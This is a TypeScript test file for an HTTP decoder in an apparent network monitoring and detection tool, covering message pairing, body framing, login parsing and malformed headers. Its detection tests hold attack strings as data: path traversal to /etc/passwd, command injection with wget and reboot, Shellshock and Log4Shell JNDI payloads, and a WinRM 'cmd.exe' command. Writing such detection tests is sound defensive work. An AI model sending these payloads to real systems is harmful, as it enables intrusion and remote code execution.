/** HTTP: messages written out (RFC 9110, 9112), how bodies are framed, pairs, logins, requests that break in, and the contract. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { attackInField, attackInTarget } from "../../protocols/http/attack.ts";
import { http } from "../../protocols/http/index.ts";
import { applicationOf, systemOf, systemOfServer } from "../../protocols/http/userAgent.ts";
import { PROBE } from "../../src/decode/protocol.ts";
import { TO_CLIENT, TO_SERVER } from "../../src/flow/flow.ts";
import { property, type Sample, streamSuite } from "../contract/stream.ts";
import { hex, join, StreamHarness } from "../support/decoderHarness.ts";
import { ntlmAuthenticate } from "./smbMessages.ts";

const ascii = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0) & 255);
const lines = (...all: string[]): Uint8Array => ascii([...all, "", ""].join("\r\n"));
/** A dollar sign, for texts that would look like templates. */
const D = "$";
const open = () => new StreamHarness(http, {});

const GET = lines("GET /status?unit=3 HTTP/1.1", "Host: plc-1.plant.example", "User-Agent: curl/7.88.1");
const EMPTY = lines("HTTP/1.1 200 OK", "Content-Length: 0");
const basic = (pair: string) => `Authorization: Basic ${Buffer.from(pair).toString("base64")}`;
const asked = (...fields: string[]) => lines("GET / HTTP/1.1", "Host: a", ...fields);
const answered = (status: string, ...fields: string[]) => lines(`HTTP/1.1 ${status}`, "Content-Length: 0", ...fields);

describe("a request and its response", () => {
	it("are one exchange, with the time between", () => {
		const harness = open();
		harness.request(GET, { time: 1_000_000_000 });
		harness.response(lines("HTTP/1.1 200 OK", "Server: lighttpd/1.4.69", "Content-Type: text/html", "Content-Length: 5"), {
			time: 1_000_012_500,
		});
		harness.response(ascii("hello"));
		expect(harness.records).toMatchObject([
			{ kind: "request", method: "GET", host: "plc-1.plant.example", uri: "/status?unit=3", version: "1.1", userAgent: "curl/7.88.1" },
			{
				kind: "response",
				statusCode: 200,
				statusMessage: "OK",
				software: "lighttpd/1.4.69",
				contentType: "text/html",
				contentLength: 5,
				matched: true,
				latencyMs: 12.5,
				requestFrame: 1,
				uri: "/status?unit=3",
			},
		]);
		expect(harness.operations).toMatchObject([
			{ verb: "read", code: 1, outcome: "ok", latency: 12_500, points: ["/status"], requestFrame: 1, frame: 2 },
		]);
		expect(harness.identities).toMatchObject([
			{ ip: expect.any(String), application: "curl 7.88.1", presumed: true },
			{ application: "lighttpd/1.4.69", presumed: true },
		]);
		expect(harness.traces).toEqual([{ kind: "domain", value: "plc-1.plant.example", byServer: false }]);
		expect(harness.facts).toEqual([]);
	});

	it.each([
		["POST", "command"],
		["PUT", "write"],
		["DELETE", "write"],
		["PROPFIND", "read"],
		["VERSION-CONTROL", "other"],
		["BREW", "other"],
	])("%s is a %s", (method, verb) => {
		const harness = open();
		harness.request(lines(`${method} /a HTTP/1.1`, "Host: a")).response(answered("404 Not Found"));
		expect(harness.operations).toMatchObject([{ verb, outcome: "refused", outcomeCode: 404, points: ["/a"] }]);
		expect(http.outcomeName(404)).toBe("not found (404)");
		expect(http.outcomeName(499)).toBe("status (499)");
		expect(http.operationName(harness.operations[0]!.code)).toContain(method === "BREW" ? "unknown" : method);
	});

	it("are joined in their order where several are sent at once, over an interim response", () => {
		const harness = open();
		harness.request(
			ascii("GET /1 HTTP/1.1\r\nHost: a\r\n\r\nHEAD /2 HTTP/1.1\r\nHost: a\r\n\r\nPOST /3 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"),
		);
		harness.response(
			ascii("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n"),
		);
		harness.response(ascii("HTTP/1.1 204 No Content\r\n\r\n"));
		expect(harness.records.slice(3).map(({ method, uri, statusCode }) => [method, uri, statusCode])).toEqual([
			["GET", "/1", 100],
			["GET", "/1", 200],
			["HEAD", "/2", 200],
			["POST", "/3", 204],
		]);
		expect(harness.operations.map(({ verb, points }) => [verb, points[0]])).toEqual([
			["read", "/1"],
			["read", "/2"],
			["command", "/3"],
		]);
	});

	it("that is not answered says so after a minute, and its late answer belongs to nobody else", () => {
		const harness = open();
		harness.request(GET, { time: 1_000_000_000 }).advance(1_061_000_000);
		expect(harness.records[1]).toMatchObject({ kind: "unanswered", method: "GET", frame: 1, time: 1_060_000_000 });
		expect(harness.operations).toMatchObject([{ outcome: "unanswered", points: ["/status"] }]);
		harness.request(lines("GET /next HTTP/1.1", "Host: a")).response(EMPTY).response(EMPTY);
		expect(harness.records.slice(3)).toMatchObject([{ matched: false }, { matched: true, uri: "/next" }]);
	});

	it("that nobody asked for is said, and no operation", () => {
		const harness = open().response(EMPTY);
		expect(harness.records).toMatchObject([{ kind: "response", matched: false }]);
		expect(harness.operations).toEqual([]);
	});

	it("more of them than wait are counted, and those that stay are joined to their own", () => {
		const harness = open();
		for (let at = 0; at < 66; at++) harness.request(lines(`GET /${at} HTTP/1.1`, "Host: a"));
		for (let at = 0; at < 66; at++) harness.response(EMPTY);
		expect(harness.counts["pending-bound"]).toBe(2);
		expect(harness.operations).toHaveLength(64);
		expect(harness.operations[0]!.points).toEqual(["/2"]);
		expect(harness.operations.at(-1)!.points).toEqual(["/65"]);
	});

	it("of a proxy names the server that is meant", () => {
		const harness = open();
		harness
			.request(lines("GET http://ann:x@updates.example:8000/a/b.zip?token=1 HTTP/1.1", "Host: proxy"))
			.response(answered("200 OK", "Server: far"));
		expect(harness.records[0]).toMatchObject({ host: "updates.example:8000", uri: "http://updates.example:8000/a/b.zip?token=…" });
		expect(harness.operations[0]!.points).toEqual(["/a/b.zip"]);
		expect(harness.traces.map(({ kind, value }) => [kind, value])).toEqual([
			["domain", "updates.example"],
			["file-name", "/a/b.zip"],
		]);
		expect(harness.identities).toEqual([]);
	});

	it("leaves out what is named like a secret", () => {
		const harness = open().request(lines("GET /login?user=ann&password=s3cret&n=1 HTTP/1.1", "Host: a", "Referer: http://a/?sid=abc"));
		expect(harness.records[0]).toMatchObject({ uri: "/login?user=ann&password=…&n=1", referrer: "http://a/?sid=…" });
		expect(JSON.stringify(harness.records)).not.toContain("s3cret");
	});

	it("takes lines that end in LF alone, and empty lines before the first", () => {
		const harness = open().request(ascii("\r\n\nGET /a HTTP/1.0\nHost: a\n\n")).response(ascii("HTTP/1.0 304 Not Modified\n\n"));
		expect(harness.records).toMatchObject([
			{ uri: "/a", version: "1.0" },
			{ statusCode: 304, matched: true },
		]);
		expect(harness.rejects).toBe(0);
	});
});

describe("bodies", () => {
	const next = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
	it.each<[string, string]>([
		["a length", "Content-Length: 12\r\n\r\nHTTP/1.1 999"],
		["the same length twice", "Content-Length: 2\r\nContent-Length: 2\r\n\r\nok"],
		["chunks", 'Transfer-Encoding: chunked\r\n\r\n4\r\nok\r\n\r\nA;x="y"\r\n0123456789\r\n0\r\n\r\n'],
		["chunks with trailers", "Transfer-Encoding: gzip, chunked\r\n\r\n1\r\nx\r\n000\r\nA: b\r\n\r\n"],
	])("of %s are stepped over", (_, rest) => {
		const bytes = ascii(`HTTP/1.1 200 OK\r\n${rest}${next}`);
		for (const step of [bytes.length, 1]) {
			const harness = open().request(asked()).request(asked());
			for (let at = 0; at < bytes.length; at += step) harness.response(bytes.slice(at, at + step));
			expect(harness.records.slice(2).map(({ statusCode }) => statusCode)).toEqual([200, 404]);
			expect(harness.rejects).toBe(0);
			expect(harness.facts).toEqual([]);
		}
	});

	it.each<[string, string, string]>([
		["GET", "HTTP/1.1 200 OK", "all until the end"],
		["GET", "HTTP/1.1 101 Switching Protocols", "another protocol"],
		["CONNECT", "HTTP/1.1 200 Connection established", "a tunnel"],
	])("%s, %s: what follows is %s", (method, status) => {
		const target = method === "CONNECT" ? "far.example:443" : "/chat";
		const harness = open().request(lines(`${method} ${target} HTTP/1.1`, "Host: a", "Upgrade: websocket"));
		harness.response(ascii(`${status}\r\n\r\n${next}`)).response(ascii(next));
		if (status.includes("101")) harness.request(ascii("\x81\x05hello"));
		expect(harness.records.map(({ kind }) => kind)).toEqual(["request", "response"]);
		expect(harness.records[0]).toMatchObject({ upgrade: "websocket" });
		expect(harness.rejects).toBe(0);
	});

	it("go on after lost bytes at the next head, and what waited is forgotten", () => {
		const harness = open().request(asked());
		harness.response(ascii("HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\nabc")).gap(TO_CLIENT);
		harness.response(ascii(`0000 HTTP/1.1\r\n${next}`));
		expect(harness.records.at(-1)).toMatchObject({ statusCode: 404, matched: false });
		harness.gap(TO_SERVER).request(ascii("oneGET /b HTTP/1.1\r\nHost: b\r\n\r\n"));
		expect(harness.records.at(-1)).toMatchObject({ kind: "request", uri: "/b" });
	});

	it("that are not what they say are malformed, and decoding goes on", () => {
		const harness = open().request(asked()).request(asked());
		harness.response(ascii("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")).response(ascii(`xyz\r\n${next}`));
		expect(harness.records.slice(3)).toMatchObject([{ kind: "malformed", sender: "server", violations: ["chunk"] }, { statusCode: 404 }]);
	});
});

describe("logins", () => {
	it("of Basic say the user, and never the password", () => {
		const harness = open();
		harness.request(asked(basic("ann:s3cret"))).response(answered("401 Unauthorized", 'WWW-Authenticate: Basic realm="ACME PLC 200"'));
		harness.request(asked(basic("ann:better"))).response(answered("200 OK"));
		harness.request(asked(basic("ann:better"))).response(answered("403 Forbidden"));
		expect(harness.records[0]).toMatchObject({ authorization: { scheme: "basic", userName: "ann", password: "(present)", inClear: true } });
		expect(JSON.stringify(harness.records)).not.toMatch(/s3cret|better/);
		expect(harness.records[1]).toMatchObject({ challenges: ["basic"], realm: "ACME PLC 200", login: "refused" });
		expect(harness.operations.map(({ verb, code, outcome, outcomeCode }) => [verb, http.isLogin!(code, outcomeCode), outcome])).toEqual([
			["authenticate", true, "refused"],
			["read", false, "refused"],
			["authenticate", true, "ok"],
			["read", false, "ok"],
			["read", false, "refused"],
		]);
		expect(harness.credentials).toEqual([{ kind: "user", text: "ann", isServer: false }]);
		expect(harness.identities).toMatchObject([{ model: "ACME PLC 200", presumed: true }]);
		expect(harness.facts).toMatchObject([{ record: { id: "cleartext-password" }, key: "ann", frames: [1] }]);
		expect(http.operationName(100)).toBe("log in");
	});

	it("of Digest say the user; a nonce that was too old refuses nobody", () => {
		const digest = 'Authorization: Digest username="bob", realm="r", nonce="n", uri="/", response="0"';
		const harness = open();
		harness.request(asked()).response(answered("401 Unauthorized", 'WWW-Authenticate: Digest realm="r", nonce="n"'));
		harness.request(asked(digest)).response(answered("401 Unauthorized", 'WWW-Authenticate: Digest realm="r", nonce="m", stale=true'));
		harness.request(asked(digest)).response(answered("200 OK"));
		expect(harness.operations.filter(({ verb }) => verb === "authenticate")).toMatchObject([{ outcome: "ok" }]);
		expect(harness.records[2]).toMatchObject({ authorization: { scheme: "digest", userName: "bob" } });
		expect(harness.facts).toEqual([]);
	});

	it.each<[string, string, Uint8Array, string]>([
		["NTLM", "NTLM", ntlmAuthenticate(), "PLANT\\operator"],
		["NTLM in SPNEGO", "Negotiate", join(hex("a182 0201 3082 01fd"), ntlmAuthenticate()), "PLANT\\operator"],
		["Kerberos", "Negotiate", hex("6082 0401 0606 2b06 0105 0502 a082 03f5"), ""],
	])("by %s end with the token that is whole", (_, scheme, token, user) => {
		for (const [status, outcome] of [
			["200 OK", "ok"],
			["401 Unauthorized", "refused"],
		] as const) {
			const harness = open()
				.request(asked(`Authorization: ${scheme} ${Buffer.from(token).toString("base64")}`))
				.response(answered(status));
			expect(harness.records[1]).toMatchObject({ login: outcome });
			expect(harness.records[0]?.authorization).toEqual({ scheme: scheme.toLowerCase(), ...(user !== "" && { userName: user }) });
			expect(harness.operations[0]).toMatchObject({ verb: "authenticate", outcome });
		}
	});

	it("of NTLM are decided by the third message alone", () => {
		const harness = open();
		harness
			.request(asked("Authorization: NTLM TlRMTVNTUAABAAAAB4IIogAAAAA="))
			.response(answered("401 Unauthorized", "WWW-Authenticate: NTLM TlRM"));
		harness
			.request(asked("Authorization: NTLM TlRMTVNTUAADAAAAGAAYAH4AAAA="))
			.response(answered("401 Unauthorized", "WWW-Authenticate: NTLM"));
		expect(harness.operations.filter(({ verb }) => verb === "authenticate")).toMatchObject([{ outcome: "refused", outcomeCode: 401 }]);
	});

	it.each([
		["Basic", "", false],
		["Basic !!!", "", false],
		[`Basic ${Buffer.from("ann:").toString("base64")}`, "ann", false],
		[`Basic ${Buffer.from("ann").toString("base64")}`, "ann", false],
		["Bearer abc.def", "", false],
	])("%s has the user '%s'", (text, userName) => {
		const harness = open().request(asked(`Authorization: ${text}`));
		const { authorization } = harness.records[0] as unknown as { authorization: { userName?: string; password?: string } };
		expect(authorization.userName ?? "").toBe(userName);
		expect(authorization.password).toBeUndefined();
		expect(harness.facts).toEqual([]);
	});
});

describe("requests that break in", () => {
	it.each<[string, string]>([
		["/../../etc/passwd", "path-traversal"],
		["/cgi-bin/%2e%2e/%2e%2e/%2e%2e/windows/win.ini", "path-traversal"],
		["/%252e%252e/%252e%252e/x", "path-traversal"],
		["/scripts/..\\..\\winnt/system32", "path-traversal"],
		["/view?file=../../../../etc/shadow", "path-traversal"],
		["/view?file=..%2f..%2fconf", "path-traversal"],
		["/view?file=../etc/passwd", "path-traversal"],
		["/ping?host=10.0.0.1;id", "command-injection"],
		["/ping?host=10.0.0.1%3Bcat%20/etc/passwd", "command-injection"],
		["/ping?host=%7Cwget+http://a/x", "command-injection"],
		["/ping?host=$(reboot)", "command-injection"],
		["/ping?host=%60uname%20-a%60", "command-injection"],
		[`/cgi-bin/;wget${D}{IFS}http://a/x`, "command-injection"],
		["/ping?host=a%26%26/bin/busybox%20sh", "command-injection"],
		["/x?a=()%20{%20:;};%20/bin/bash%20-c%20id", "shellshock"],
		[`/x?a=${D}{jndi:ldap://a/b}`, "log4shell"],
		["/x?a=%24%7Bjndi%3Aldap%3A//a/b%7D", "log4shell"],
		["/$%7b$%7b::-j%7d$%7blower:n%7d$%7benv:X:-d%7di:rmi://a%7d", "log4shell"],
	])("%s is %s", (target, kind) => {
		expect(attackInTarget(target)?.kind).toBe(kind);
	});

	it.each([
		"/a/../b",
		"/a/b/../../c.html",
		"/report..2026/x",
		"/files/..hidden",
		"/view?file=../picture.png",
		"/search?q=cat%20and%20dog;id=5",
		"/search?q=a;b;c",
		"/search?q=Smith%20%26%20Sons",
		"/search?q=price%3A%20%24%7B5%7D",
		"/p?ids=1|2|3",
		"/p?note=costs%20$5%20(net)",
		"/api;jsessionid=0F3A",
		"/p?sleep=5&id=3&cat=9",
		"/p?x=100%25",
		"/a?b=%zz%2",
		"*",
	])("%s is none", (target) => {
		expect(attackInTarget(target)).toBeUndefined();
	});

	it("are found in fields", () => {
		expect(attackInField("() { :;}; /bin/bash -c id")?.kind).toBe("shellshock");
		expect(attackInField(`${D}{${D}{lower:j}${D}{upper:n}di:ldap://a}`)?.kind).toBe("log4shell");
		expect(attackInField(`Mozilla/5.0 (X11) ${D}{x}`)).toBeUndefined();
		const harness = open().request(asked("User-Agent: () { :;}; ping -c 1 10.0.0.9"));
		expect(harness.facts).toMatchObject([{ record: { id: "web-attack" }, key: "shellshock", operation: { verb: "read", points: ["/"] } }]);
		expect(harness.records[0]).toMatchObject({ attack: { kind: "shellshock" } });
	});

	it("cost no more than their bytes", () => {
		const started = performance.now();
		for (const piece of ["../", `${D}{`, `${D}{a:`, ";", "%2", "; ", "() {", `${D}{jndi`, "a=;id="])
			attackInTarget(`/x?${piece.repeat(16_000 / piece.length)}`);
		expect(performance.now() - started).toBeLessThan(2000);
	});
});

describe("malformed messages", () => {
	it.each<[string, string, string[]]>([
		["a length and an encoding", "Content-Length: 5\r\nTransfer-Encoding: chunked", ["length-and-encoding"]],
		["two lengths", "Content-Length: 5\r\nContent-Length: 6", ["content-length"]],
		["a length that is none", "Content-Length: -1", ["content-length"]],
		["a length that is none, too", "Content-Length: 99999999999999999999", ["content-length"]],
		["an encoding that is not chunked at its end", "Transfer-Encoding: chunked, gzip", ["transfer-encoding"]],
		["a folded field", "X: a\r\n b", ["obs-fold"]],
		["a space before the colon", "Content-Type : a", ["field-name"]],
		["no colon", "nothing", ["field-name"]],
		["a zero byte", "X: a\0b", ["nul"]],
		["a lone CR", "X: a\rb", ["bare-cr"]],
		["two hosts", "Host: b", ["host"]],
	])("with %s", (_, fields, violations) => {
		const harness = open().request(ascii(`POST /a HTTP/1.1\r\nHost: a\r\n${fields}\r\n\r\n`));
		expect(harness.records).toMatchObject([{ kind: "request", violations }]);
		expect(harness.facts).toMatchObject([{ record: { id: "http-malformed" }, key: violations.join() }]);
	});

	it("of a server are a fact where they can mean two things", () => {
		const harness = open();
		harness.response(ascii("HTTP/1.1 200 OK\r\nX : a\r\nContent-Length: 0\r\n\r\n"));
		expect(harness.facts).toEqual([]);
		harness.response(ascii("HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 0\r\n\r\n"));
		expect(harness.facts).toMatchObject([{ record: { id: "http-malformed" }, byServer: true }]);
	});

	it("whose head has no end are given up", () => {
		const harness = open()
			.request(ascii(`GET / HTTP/1.1\r\n${"X: y\r\n".repeat(11_000)}`))
			.request(GET);
		expect(harness.records).toMatchObject([{ kind: "malformed", sender: "client", violations: ["head-length"] }, { kind: "request" }]);
	});
});

describe("WS-Management", () => {
	const SHELL = "http://schemas.microsoft.com/wbem/wsman/1/windows/shell";
	const soap = (action: string, resource: string, body = "") =>
		`<s:Envelope xmlns:s="x"><s:Header><a:Action s:mustUnderstand="true">${action}</a:Action><w:ResourceURI>${resource}</w:ResourceURI></s:Header><s:Body>${body}</s:Body></s:Envelope>`;
	const post = (body: string, { path = "/wsman", type = "application/soap+xml;charset=UTF-8" } = {}) =>
		join(lines(`POST ${path} HTTP/1.1`, "Host: hmi-1:5985", `Content-Type: ${type}`, `Content-Length: ${body.length}`), ascii(body));
	const command = soap(
		`${SHELL}/Command`,
		`${SHELL}/cmd`,
		"<rsp:CommandLine><rsp:Command>cmd.exe</rsp:Command><rsp:Arguments>/c</rsp:Arguments><rsp:Arguments>net user &amp; exit</rsp:Arguments></rsp:CommandLine>",
	);

	it("says what is done to what, and the command that is to run is a fact", () => {
		const harness = open().request(post(command)).response(EMPTY);
		expect(harness.rejects).toBe(0);
		expect(harness.records[1]).toMatchObject({
			kind: "management",
			uri: "/wsman",
			action: "Command",
			resource: "cmd",
			commandLine: "cmd.exe /c net user & exit",
		});
		expect(harness.facts).toMatchObject([{ record: { id: "remote-execution" }, key: "WinRM" }]);
		expect(harness.operations).toMatchObject([{ verb: "command", points: ["/wsman"], outcome: "ok" }]);
	});

	it.each<[string, string, number]>([
		["a shell that is opened", soap("http://schemas.xmlsoap.org/ws/2004/09/transfer/Create", `${SHELL}/cmd`), 0],
		[
			"a process by WMI",
			soap("http://x/cimv2/Win32_Process/Create", "http://x/cimv2/Win32_Process", "<p:CommandLine>calc.exe</p:CommandLine>"),
			1,
		],
		["a question", soap("http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate", "http://x/cimv2/Win32_Service"), 0],
	])("tells %s", (_, body, facts) => {
		const harness = open().request(post(body, { path: "/wsman?PSVersion=5.1" }));
		expect(harness.records[1]).toMatchObject({ kind: "management" });
		expect(harness.facts).toHaveLength(facts);
	});

	it("is the same however it is cut, and is not read beyond 8 KiB", () => {
		const whole = post(command);
		const harness = open();
		for (const byte of whole) harness.request(Uint8Array.of(byte));
		expect(harness.records.filter(({ kind }) => kind === "management")).toHaveLength(1);
		const long = open()
			.request(post(command + " ".repeat(20_000)))
			.request(GET);
		expect(long.records.map(({ kind }) => kind)).toEqual(["request", "management", "request"]);
		const late = open()
			.request(post(" ".repeat(9000) + command))
			.request(GET);
		expect(late.records.map(({ kind }) => kind)).toEqual(["request", "request"]);
	});

	it("is not what is encrypted, elsewhere, no SOAP, or cut by lost bytes", () => {
		for (const bytes of [
			post(command, { type: 'multipart/encrypted;protocol="application/HTTP-SPNEGO-session-encrypted"' }),
			post(command, { path: "/wsmanager" }),
			post("<html></html>"),
		])
			expect(
				open()
					.request(bytes)
					.records.map(({ kind }) => kind),
			).toEqual(["request"]);
		const cut = post(command);
		const harness = open().request(cut.slice(0, -40)).gap(TO_SERVER).request(GET);
		expect(harness.records.map(({ kind }) => kind)).toEqual(["request", "request"]);
	});
});

describe("the probe", () => {
	const probe = (text: string, isHinted?: boolean) => http.tcp!.probe(ascii(text), 0, text.length, isHinted);
	it.each<[string, number, number]>([
		["GET / HTTP/1.1\r\n", PROBE.certain, PROBE.certain],
		["GET /a", PROBE.more, PROBE.more],
		["GE", PROBE.more, PROBE.more],
		["HTT", PROBE.more, PROBE.more],
		["HTTP/1.1 200 OK", PROBE.certain, PROBE.certain],
		["HTTP/1.1 200", PROBE.more, PROBE.more],
		["HTTP/1.1 2x0 ", PROBE.mismatch, PROBE.mismatch],
		["HTTP/2.0 200 OK", PROBE.mismatch, PROBE.mismatch],
		["PRI * HTTP/2.0\r\n", PROBE.mismatch, PROBE.mismatch],
		["FOO / HTTP/1.1\r\n", PROBE.mismatch, PROBE.certain],
		["M-SEARCH * HTTP/1.1\r\n", PROBE.mismatch, PROBE.certain],
		["OPTIONS rtsp://a RTSP/1.0\r\n", PROBE.mismatch, PROBE.mismatch],
		["GET /old\r\n", PROBE.mismatch, PROBE.mismatch],
		["USER ann\r\n", PROBE.mismatch, PROBE.mismatch],
		["SSH-2.0-x\r\n", PROBE.mismatch, PROBE.mismatch],
		[`GET /${"a".repeat(17_000)}`, PROBE.mismatch, PROBE.mismatch],
	])("of %s", (text, elsewhere, onPort) => {
		expect([probe(text, false), probe(text, true)]).toEqual([elsewhere, onPort]);
	});
});

describe("what programs say of themselves", () => {
	it.each([
		[
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
			"Chrome 120.0.0.0",
			"Windows 10 or newer",
		],
		["Mozilla/5.0 (Windows NT 6.1; rv:109.0) Gecko/20100101 Firefox/115.0", "Firefox 115.0", "Windows 7 or Server 2008 R2"],
		["Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "Internet Explorer 6.0", "Windows XP"],
		["Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "Firefox 128.0", "Linux"],
		["Mozilla/5.0 (Linux; Android 9; x) Chrome/99.0 Mobile Safari/537.36", "Chrome 99.0", "Android 9"],
		["Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit Version/16.0 Mobile Safari/604.1", "Safari 16.0", ""],
		["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Version/16.1 Safari/605.1", "Safari 16.1", "macOS 10.15.7"],
		["Microsoft-CryptoAPI/10.0", "Microsoft-CryptoAPI 10.0", ""],
		["Wget", "Wget", ""],
		["Mozilla/5.0", "", ""],
		["(x)", "", ""],
		["Mozilla/4.0 (compatible; Windows CE)", "", "Windows CE"],
	])("%s", (agent, application, system) => {
		expect([applicationOf(agent), systemOf(agent)]).toEqual([application, system]);
	});

	it("of servers too", () => {
		expect(["Apache/2.4.57 (Debian)", "Microsoft-IIS/10.0", "Apache (Win32)", "Apache (Unix)", "nginx"].map(systemOfServer)).toEqual([
			"Debian",
			"Windows",
			"Windows",
			"",
			"",
		]);
	});
});

it("says the same of bodies however the stream is cut", () => {
	const requests = ascii(
		"POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nPUT /b HTTP/1.1\r\nContent-Length: 4\r\n\r\nGET GET /c HTTP/1.1\r\n\r\n",
	);
	const responses = ascii(
		"HTTP/1.1 201 Created\r\nContent-Length: 3\r\n\r\nabcHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nHTTP/\r\n0\r\n\r\nHTTP/1.1 200 OK\r\n\r\nrest",
	);
	const play = (cuts: readonly number[]) => {
		const harness = open();
		for (const [direction, bytes] of [
			[TO_SERVER, requests],
			[TO_CLIENT, responses],
		] as const) {
			let from = 0;
			for (const cut of [...cuts.filter((one) => one < bytes.length).sort((a, b) => a - b), bytes.length]) {
				if (cut > from) harness.send(direction, bytes.slice(from, cut), { frame: direction + 1 });
				from = cut;
			}
		}
		expect(harness.rejects).toBe(0);
		return harness.records;
	};
	const whole = play([]);
	expect(whole.map(({ kind }) => kind)).toEqual(["request", "request", "request", "response", "response", "response"]);
	property(1000, [fc.array(fc.nat({ max: 160 }), { maxLength: 30 })], (cuts) => {
		expect(play(cuts)).toEqual(whole);
	});
});

const sample = (name: string, bytes: Uint8Array, direction: 0 | 1 = TO_SERVER): Sample => ({ name, bytes, direction });
streamSuite(
	http,
	[
		[
			sample("a request", GET),
			sample("a response", EMPTY, TO_CLIENT),
			sample("a login", asked(basic("ann:s3cret"), "Referer: http://a/b?c=d")),
			sample("a refusal", answered("401 Unauthorized", 'WWW-Authenticate: Basic realm="r"'), TO_CLIENT),
		],
		[
			sample("a question for the head", lines("HEAD /firmware.bin HTTP/1.0")),
			sample("the head", lines("HTTP/1.0 200 OK", "Content-Length: 100", 'Content-Disposition: attachment; filename="x.bin"'), TO_CLIENT),
			sample("a request that breaks in", lines("GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "Host: a", "X : y")),
			sample("not modified", lines("HTTP/1.1 304 Not Modified", "Server: x"), TO_CLIENT),
		],
	],
	{
		foreign: [
			["text", ascii("USER anonymous\r\nPASS x\r\n")],
			["ones", new Uint8Array(48).fill(0xff)],
		],
	},
);
